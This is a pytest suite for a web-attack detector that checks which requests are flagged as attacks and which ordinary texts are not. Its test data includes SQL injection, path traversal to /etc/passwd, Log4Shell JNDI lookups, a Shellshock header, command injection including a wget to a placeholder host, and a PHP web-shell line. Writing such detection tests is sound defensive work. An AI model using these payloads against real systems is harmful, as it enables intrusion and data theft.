# SPDX-License-Identifier: Apache-2.0
import time
from urllib.parse import quote

import pytest

from giamsat_agent.packets.payloads.webattack import SEEN, SEGMENTS, Request, attack, in_headers, in_parts


@pytest.mark.parametrize(
    "text",
    [
        "/a?id=1%27%20OR%20%271%27=%271",
        "/a?id=1' and 1=1 --",
        "/a?id=1')) or ('a'='a",
        "/a?id=1'||'1'='1",
        "/a?id=1+UNION/**/SELECT+name",
        "/%2e%2e/%2e%2e/%2e%2e/etc/passwd",
        "/a/..;/manager/html",
        "/?q=%3Cscript%3E",
        "/?x=${jndi:ldap://x}",
        "/?x=${${lower:j}ndi:${lower:l}dap://x}",
        "/?x=${${::-j}${::-n}${::-d}${::-i}:rmi://x}",
        "/?x=${${env:NONE:-j}ndi:ldap://x}",
        "/?q=%2527%2520or%25201%253D1",
        "/?ip=127.0.0.1;id",
        "/?ip=$(whoami)",
        "/?cmd=/bin/bash%20-c%20x",
        "class.module.classLoader.resources.context.parent=x",
    ],
)
def test_what_only_an_attack_writes_is_found_however_it_is_encoded(text):
    assert attack(text) is not None


@pytest.mark.parametrize(
    "text",
    [
        "/union/select-committee",
        "/tin-tuc?q=o'reilly",
        "/a?b=1&c=2",
        "/alerts(1)",
        "/script.js",
        "he said 'yes' or 'no' and 'maybe'",
        '{"note": "the \\"one\\" or \\"other\\" is meant"}',
        "/docs/powershell-guide?id=5&ls=1",
        "#!/bin/bash\necho hi",
        "a=1;id=5",
        "price=${amount}",
    ],
)
def test_what_people_write_is_no_attack(text):
    assert attack(text) is None


@pytest.mark.parametrize(
    "head",
    [
        b"User-Agent: () { :; }; /bin/cat /etc/passwd",
        b"X-Api-Version: ${${lower:j}ndi:ldap://x}",
        b"Cookie: id=1' OR '1'='1",
        b"X-Forwarded-For: 1' UNION SELECT password FROM users--",
        b"Content-Type: %{(#_=multipart/form-data)}",
    ],
)
def test_headers_that_no_browser_sends_are_found(head):
    request = Request()

    assert request.begin(b"GET / HTTP/1.1\r\nHost: x\r\n" + head + b"\r\n\r\n") is not None
    assert not request.goes_on


@pytest.mark.parametrize(
    "head",
    [
        b"User-Agent: Mozilla/5.0 (Windows NT; Windows NT 10.0) WindowsPowerShell/5.1.19041",
        b"Cookie: name=O'Brien; filter='a' or 'b'; t=<1>",
        b"Accept: */*;q=0.8",
    ],
)
def test_headers_of_browsers_and_programs_show_nothing(head):
    assert in_headers(head) is None


def test_a_program_for_the_server_among_the_parts_of_an_upload_counts_and_a_document_does_not():
    part = b'--x\r\nContent-Disposition: form-data; name="f"; filename="%s"\r\n\r\n%s'

    assert in_parts(part % (b"a.php", b"<?php system($_GET['c']); ?>")) == "code injection"
    assert in_parts(part % (b"a.JSP", b"Runtime.getRuntime().exec(request.getParameter(1))")) == "code injection"
    assert in_parts(part % (b"a.sql", b"select 1 union select 2; ' or '1'='1")) is None
    assert in_parts(part % (b"a.html", b"<script>alert(1)</script> /bin/sh")) is None
    assert Request().begin(b"PUT /a.jsp/ HTTP/1.1\r\nHost: x\r\n\r\n") == "code injection"


def posted(kind, *segments):
    """What is found in a body of a kind that comes in these segments."""
    request, size = Request(), sum(map(len, segments))
    head = b"POST / HTTP/1.1\r\nContent-Type: " + kind + b"\r\nContent-Length: %d\r\n\r\n" % size
    found = [request.begin(head + segments[0]), *(request.more(one) for one in segments[1:])]
    return next((kind for kind in found if kind), None)


FORM, JSON, XML = b"application/x-www-form-urlencoded", b"application/json", b"text/xml"
PAGE = b"<h1>Tin</h1>" + b"<p>Chuyen doi so </p>" * 90 + b'<script src="/a.js"></script><img onload="f()">'


@pytest.mark.parametrize(
    ("kind", "segments"),
    [
        (JSON, (b'{"user": "admin\' or 1=1--"}',)),
        (JSON, (b'{"q": "<script>alert(1)</script>"}',)),
        (JSON, (b'{"host": "x; cat ', b'/etc/passwd"}')),
        (JSON, (b'{"a": "\\"><script>"}',)),
        (JSON, (b'{"email": "nguyen.van.an@so-noi-vu.example.vn\' or 1=1--"}',)),
        (JSON, (b'{"host": "192.0.2.10 -c 4 -w 10 -i 2 -s 56 -t 64;wget http://e/x"}',)),
        (JSON, (b'{"file": "reports/2027/01/quarter/../../../../etc/passwd"}',)),
        (JSON, (b'{"comment": "good morning to all of the office <script>alert(1)</script>"}',)),
        (JSON, (b'{"q": "1000000000000000000000000000 union select name from t"}',)),
        (JSON, (b'{"agent": "Mozilla/5.0 (X11; Linux x86_64) ${jndi:ldap://e/a}"}',)),
        (JSON, (b"{\"since\": \"2027-01-01 10:00:00 +07:00 and so on, whatever it is' or 'a'='a\"}",)),
        (JSON, (b'{"a": "' + b"x " * 300 + b'${jndi:ldap://e/a}"}',)),
        (FORM, (b"a=" + b"A" * 1_600 + b"' or 1=1--&b=1",)),
        (FORM, (b"a=" + b"A" * 1_600 + b"' union select 1",)),
        (FORM, (b"a=" + b"A" * 1_600, b"A" * 900 + b"' or", b" 'a'='a' " + b"A" * 900)),
        (XML, (b"<login><user>x' or '1'='1</user></login>",)),
        (FORM, (b"comment=nice+post+%3Cscript%3E&page=1",)),
        (FORM, (b"page=" + b"x" * 4_000 + b"&id=1'+or+'1'='1",)),
        (FORM, (b"page=" + b"x" * 4_000, b"x" * 1_000, b"&id=1'+or+'1'='1")),
        (FORM, (b"file=" + b"%20" * 900 + b"%3C%3Fphp+system(%24_GET%5B1%5D)%3B",)),
    ],
)
def test_a_value_that_is_an_attack_is_found_in_every_kind_of_body(kind, segments):
    assert posted(kind, *segments) is not None


@pytest.mark.parametrize(
    ("kind", "segments"),
    [
        (FORM, (b"title=Tin&content=" + quote(PAGE).encode(),)),
        (FORM, (b"title=Tin&content=" + quote(PAGE).encode()[:2_000], quote(PAGE).encode()[2_000:])),
        (JSON, (b'{"html": "' + PAGE.replace(b'"', b'\\"') + b'"}',)),
        (JSON, (b'{"message": "Fix eval( in a template; remove <script> tags and alert( calls"}',)),
        (JSON, (b'{"line": "203.0.113.9 - - [01/Jan/2027] \\"GET /?id=1 union select 1 HTTP/1.1\\" 404"}',)),
        (JSON, (b'{"code": "' + b"let a = b; " * 40 + b"x === 'a' || y == 'b' and eval(z)" + b' let" }',)),
        (JSON, (b'{"line": "2027-01-01T10:00:00Z web GET /tin-tuc/?id=1 union select 1 HTTP/1.1"}',)),
        (b"application/x-ndjson", (b'{"index":{}}\n{"message":"1 union select 1"}\n',)),
    ],
    ids=[
        "a page",
        "a page in two",
        "a page in JSON",
        "words about code",
        "a record of a log",
        "code",
        "a record",
        "a log",
    ],
)
def test_a_document_that_holds_such_words_is_no_attack(kind, segments):
    assert posted(kind, *segments) is None


def test_a_request_is_searched_up_to_a_bound():
    by_bytes, by_segments = (Request() for _ in range(2))
    for request in (by_bytes, by_segments):
        request.begin(b"POST / HTTP/1.1\r\nContent-Length: 999999\r\n\r\n")
        assert request.goes_on
    by_bytes.more(bytes(SEEN))
    for _ in range(SEGMENTS):
        by_segments.more(b"a")

    assert not by_bytes.goes_on
    assert not by_segments.goes_on


@pytest.mark.parametrize("piece", ["${", "' or ", "$" * 2, "${a:-", "()  {", "'((((", 'filename="a', "../"])
def test_no_text_takes_long(piece):
    text = piece * (SEEN // len(piece))
    begun = time.thread_time()
    attack(text)
    in_headers(text.encode())
    in_parts(text.encode())

    assert time.thread_time() - begun < 0.5


@pytest.mark.parametrize(
    "text",
    [
        "/list?id=1 order by 10",
        "/list?id=1+order+by+10--+-",
        "/list?id=x' order by 3#",
        "/list?id=1) order by 12,3",
        "/list?id=1%20ORDER%20BY%201",
    ],
)
def test_columns_counted_by_sorting_by_them_are_an_attack(text):
    assert attack(text) == "SQL injection"


@pytest.mark.parametrize(
    "text",
    [
        "please order by 10 am",
        "We take every order by 12 o'clock",
        "/search?q=order+by+10+pm",
        "/search?q=how to order by 10",
        "order by 15.11.2027; thank you",
        "/report?sort=order by 2nd of May",
        "Room 4 order by 10:30",
        "sort the 3 columns, order by 1st name",
    ],
)
def test_what_is_ordered_by_some_time_is_none(text):
    assert attack(text) is None
